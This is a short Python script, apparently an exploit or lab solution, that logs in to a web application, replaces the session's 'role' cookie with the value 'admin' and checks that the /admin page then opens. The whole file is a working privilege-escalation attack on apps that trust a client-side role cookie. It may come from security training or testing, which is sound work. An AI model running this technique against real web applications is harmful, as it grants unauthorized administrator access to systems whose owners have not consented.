import requests


def become_admin(url):
    client = requests.Session()
    client.post(f"{url}/login", allow_redirects=False)
    del client.cookies["role"]
    client.cookies["role"] = "admin"
    assert "admin" in client.get(f"{url}/admin").text
    return client
